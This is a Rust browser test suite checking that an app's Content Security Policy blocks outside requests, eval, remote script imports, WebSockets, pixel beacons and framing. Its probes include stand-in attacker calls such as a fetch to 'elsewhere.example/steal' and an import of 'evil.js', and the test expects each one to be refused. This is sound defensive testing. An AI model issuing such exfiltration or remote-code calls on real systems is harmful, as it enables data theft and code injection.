//! The policy that the bundle brings along binds the page and the worker.

use albumen_e2e::browser::Role;
use albumen_e2e::walk::{Stage, walk};

use crate::steps;

/// Tries everything that the policy forbids and says what came of it.
const TRIES: &str = "(async () => {
    const outcome = async attempt => { try { await attempt(); return 'allowed'; } catch (error) { return 'refused'; } };
    return JSON.stringify({
        fetch: await outcome(() => fetch('https://elsewhere.example/steal', { mode: 'no-cors' })),
        neighbour: await outcome(() => fetch('https://www.googleapis.com/oauth2/v1/certs', { mode: 'no-cors' })),
        eval: await outcome(() => (0, eval)('1 + 1')),
        maker: await outcome(() => new Function('return 1')()),
        script: await outcome(() => import('https://elsewhere.example/evil.js')),
        data: await outcome(() => import('data:text/javascript,export default 1')),
    });
})()";
const ALL_REFUSED: &str = r#"{"fetch":"refused","neighbour":"refused","eval":"refused","maker":"refused","script":"refused","data":"refused"}"#;

#[test]
fn neither_page_nor_worker_can_reach_a_foreign_host_or_run_a_string() {
    walk(Stage::default(), async |walk| {
        walk.open().await?;
        walk.browser.button("Try it now").await?;
        // The engine has woken when its consent screen is there.
        walk.browser.find(Role::Dialog, "Pretend Google").await?;
        let in_page = walk.browser.watcher.run_in_page(TRIES).await?;
        assert_eq!(in_page, ALL_REFUSED, "in the page");
        let in_worker = walk.browser.watcher.run_in_worker(TRIES).await?;
        assert_eq!(in_worker, ALL_REFUSED, "in the worker");
        assert_eq!(walk.recorder.heard().await, Vec::<String>::new());
        let sockets = "return await new Promise(done => {
            try { const socket = new WebSocket('wss://elsewhere.example'); socket.onerror = () => done('refused');
                socket.onopen = () => done('allowed'); } catch { done('refused'); } })";
        assert_eq!(walk.browser.run_async::<String>(sockets).await?, "refused");
        let picture = "return await new Promise(done => { const image = new Image();
            image.onload = () => done('allowed'); image.onerror = () => done('refused');
            image.src = 'https://elsewhere.example/pixel.gif'; })";
        assert_eq!(walk.browser.run_async::<String>(picture).await?, "refused");
        // Chromium says each refusal in the console; the scenario is what caused them.
        for source in ["security", "javascript", "worker", "other", "recommendation"] {
            walk.expect_line(source, "Content Security Policy");
        }
        // Chromium announces a request to its debugger before the policy stops it.
        walk.browser.watcher.take_hosts();
        Ok(())
    });
}

#[test]
fn the_page_refuses_to_run_inside_of_another() {
    walk(Stage::default(), async |walk| {
        walk.open().await?;
        let frame = format!(
            "document.body.replaceChildren(Object.assign(document.createElement('iframe'), {{ src: '{}' }}));",
            walk.page.base()
        );
        // A page of ours may not hold such a frame; one of somebody else's might.
        walk.browser.open("about:blank").await?;
        let _: Option<String> = walk.browser.run(&frame, vec![]).await?;
        let driver = walk.browser.driver();
        driver.enter_frame(0).await?;
        walk.browser
            .until("the framed page to say that it will not run", async || {
                let text = walk.browser.text().await?;
                Ok((!text.is_empty() && !text.contains("Try it now")).then_some(()))
            })
            .await?;
        assert!(!walk.browser.has(Role::Button, "Try it now").await?);
        Ok(())
    });
}

#[test]
fn the_policy_stands_in_the_page_itself_before_anything_it_governs() {
    walk(Stage::default(), async |walk| {
        walk.open().await?;
        let read = "const metas = [...document.querySelectorAll('meta[http-equiv=\"Content-Security-Policy\"]')];
            const first = document.querySelector('script, link, style');
            return [metas.length, metas[0]?.content ?? '',
                Boolean(metas[0] && metas[0].compareDocumentPosition(first) & Node.DOCUMENT_POSITION_FOLLOWING)]";
        let (count, policy, is_first): (u32, String, bool) = walk.browser.run(read, vec![]).await?;
        assert_eq!(count, 1);
        assert!(is_first, "the policy must stand before scripts and styles");
        assert!(policy.contains("default-src 'none'"), "{policy}");
        for hole in ["'unsafe-inline'", "'unsafe-eval'", " *", "http:", "data:"] {
            assert!(!policy.replace("'wasm-unsafe-eval'", "").contains(hole), "{hole} in {policy}");
        }
        steps::kept(walk).await?;
        Ok(())
    });
}
